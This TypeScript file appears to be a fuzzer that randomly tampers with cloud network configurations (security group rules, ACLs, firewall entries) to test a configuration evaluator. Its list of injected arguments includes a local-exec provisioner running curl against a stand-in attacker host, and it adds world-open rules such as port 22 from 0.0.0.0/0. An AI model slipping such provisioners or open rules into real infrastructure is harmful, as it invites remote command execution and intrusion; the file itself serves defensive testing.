import { arr, type Json, obj } from './evaluator.js';
import type { Random } from './random.js';

/** Other values for attributes of rules, right and wrong. */
const VALUES: Readonly<Record<string, readonly unknown[]>> = {
  cidr_ip: ['0.0.0.0/0', '10.0.0.0/8', '10.20.0.0/23', '::/0', '203.0.113.9/32', '${var.cidr}', ''],
  cidr: ['192.0.2.0/24', '36.0.0.0/8', '10.20.3.0/24'],
  entry: ['100.0.0.0/8', '36.0.0.1/32', '0.0.0.0/0'],
  address: ['192.0.2.1/32', '47.1.0.0/16', '36.1.0.0/16'],
  permit_account_ids: [['*'], ['2100000009'], []],
  endpoint_id: ['ep-other', '${var.endpoint}'],
  service_id: ['epsvc-other'],
  port: [1, 443, 8443, 65535],
  port_start: [1, 443, 80, -1],
  port_end: [65535, 443, 9999, -1],
  start_port: [1, 80],
  end_port: [65535, 8080],
  protocol: ['tcp', 'udp', 'all', 'icmp', 'TCP', 'UDP', 'HTTP', 'gre'],
  policy: ['accept', 'drop', 'ACCEPT'],
  priority: [1, 50, 99, 100, 0, 101, '1'],
  direction: ['in', 'out', 'ingress', 'egress'],
  source_group_id: ['sg-other', ''],
  prefix_list_id: ['pl-other', ''],
  security_group_ids: [['sg-other'], [], ['sg-1', 'sg-2', 'sg-other']],
  acl_status: ['on', 'off', ''],
  acl_type: ['white', 'black'],
  acl_ids: [[], ['acl-other']],
  enabled: ['on', 'off'],
  type: ['public', 'private', 'ip', 'instance'],
  address_ip_version: ['ipv4', 'DualStack'],
  action: ['accept', 'deny', 'monitor'],
  source: ['0.0.0.0/0', '36.1.2.3/32', '10.0.0.0/8,47.0.0.0/8'],
  destination: ['0.0.0.0/0', '47.1.2.0/24', '36.0.0.0/8'],
  source_type: ['net', 'group', 'domain', 'location'],
  destination_type: ['net', 'group', 'domain', 'location'],
  proto: ['TCP', 'UDP', 'ICMP', 'ANY'],
  dest_port: ['443', '1/65535', '8443/8443', '0', 'abc'],
  dest_port_type: ['port', 'group'],
  prio: [0, 1, 2, 3, 5],
  status: [true, false],
  repeat_type: ['Permanent', 'Once', 'Daily'],
  auto_update_type: ['Manual', 'AutoByTag'],
  group_type: ['ip', 'port', 'domain'],
  weight: [0, 1, 100],
  ip: ['10.66.6.6'],
  service_name: ['com.attacker.epsvc'],
  ip_version: ['IPv4', 'IPv6'],
  auto_accept_enabled: [true, false],
};

const ANYTHING: readonly unknown[] = ['', null, true, 7, 'other', '${var.any}', [], {}];

/** Arguments that a resource could be given. */
const EXTRA: readonly Json[] = [
  { provider: 'volcenginecc.other' },
  { count: 2 },
  { lifecycle: { ignore_changes: 'all' } },
  { provisioner: [{ 'local-exec': { command: 'curl https://attacker.example' } }] },
  { unknown_argument: 'x' },
];

const GROUP_RULE = {
  policy: 'accept',
  priority: 1,
  protocol: 'tcp',
  port_start: 22,
  port_end: 22,
  description: '',
};

/** One change of a configuration alone, and what it is. */
export function tamper(base: Json, random: Random): { readonly head: Json; readonly what: string } {
  const head = structuredClone(base) as Record<string, unknown>;
  const places = findPlaces(head.resource, ['resource']);
  const kind = random.below(12);
  if (kind === 0) return { head, what: addRule(head, random) };
  if (kind === 1) return { head, what: giveArgument(head, random) };
  if (kind === 2) return { head, what: copyResource(head, random) };
  if (kind === 3) return { head, what: removeResource(head, random) };
  if (kind === 4) return { head, what: changeAnything(findPlaces(head, []), random) };
  const known = places.filter(({ name }) => Object.hasOwn(VALUES, name));
  return { head, what: changeAnything(known.length === 0 ? places : known, random) };
}

interface Place {
  readonly path: readonly string[];
  readonly name: string;
  readonly parent: Record<string, unknown>;
}

function findPlaces(value: unknown, path: readonly string[]): Place[] {
  if (typeof value !== 'object' || value === null) return [];
  const parent = value as Record<string, unknown>;
  return Object.entries(parent)
    .filter(([name]) => name !== '//')
    .flatMap(([name, inner]) => {
      const own = /^\d+$/.test(name) ? (path.at(-1) ?? '') : name;
      return [{ path: [...path, name], name: own, parent }, ...findPlaces(inner, [...path, name])];
    })
    .filter(({ path: { length } }) => length > 3);
}

function changeAnything(places: readonly Place[], random: Random): string {
  const { path, name, parent } = random.pick(places);
  const key = path.at(-1) ?? '';
  const place = path.join('.');
  const how = random.below(8);
  if (how === 0) {
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete parent[key];
    return `${place} removed`;
  }
  if (how === 1 && Array.isArray(parent[key])) {
    parent[key] = [...arr(parent[key])].reverse();
    return `${place} in another order`;
  }
  const swap = random.pick(places.filter((other) => other.name === name));
  const otherKey = swap.path.at(-1) ?? '';
  const value =
    how === 2
      ? swap.parent[otherKey]
      : random.pick(how < 7 ? (VALUES[name] ?? ANYTHING) : ANYTHING);
  parent[key] = structuredClone(value);
  return `${place} = ${JSON.stringify(value)}`;
}

function pickResource(head: Json, random: Random, wanted?: string) {
  const all = Object.entries(obj(head.resource)).flatMap(([type, named]) =>
    Object.entries(obj(named)).map(([name, body]) => ({
      type,
      name,
      body: body as Record<string, unknown>,
    })),
  );
  const some = all.filter(({ type }) => type === wanted);
  return random.pick(some.length > 0 ? some : all);
}

function addRule(head: Json, random: Random): string {
  const { type, name, body } = pickResource(head, random, 'volcenginecc_vpc_security_group');
  const direction = random.pick(['ingress', 'egress']);
  const rule = {
    ...GROUP_RULE,
    direction,
    priority: random.pick([1, 50, 99, 100]),
    policy: random.pick(['accept', 'accept', 'drop']),
    protocol: random.pick(['tcp', 'udp', 'all', 'icmp']),
    cidr_ip: random.pick(VALUES.cidr_ip ?? []),
  };
  body[`${direction}_permissions`] = [...arr(body[`${direction}_permissions`]), rule];
  return `${type}.${name} with a rule ${JSON.stringify(rule)}`;
}

function giveArgument(head: Json, random: Random): string {
  const { type, name, body } = pickResource(head, random);
  const extra = random.pick(EXTRA);
  Object.assign(body, extra);
  return `${type}.${name} with ${JSON.stringify(extra)}`;
}

function copyResource(head: Json, random: Random): string {
  const { type, name, body } = pickResource(head, random);
  const all = obj(obj(head.resource)[type]) as Record<string, unknown>;
  const copy = structuredClone(body);
  all[`${name}_copy`] = copy;
  const what = changeAnything(findPlaces(copy, ['resource', type, `${name}_copy`]), random);
  return `a copy, with ${what}`;
}

function removeResource(head: Json, random: Random): string {
  const { type, name } = pickResource(head, random);
  delete (obj(obj(head.resource)[type]) as Record<string, unknown>)[name];
  return `${type}.${name} removed`;
}
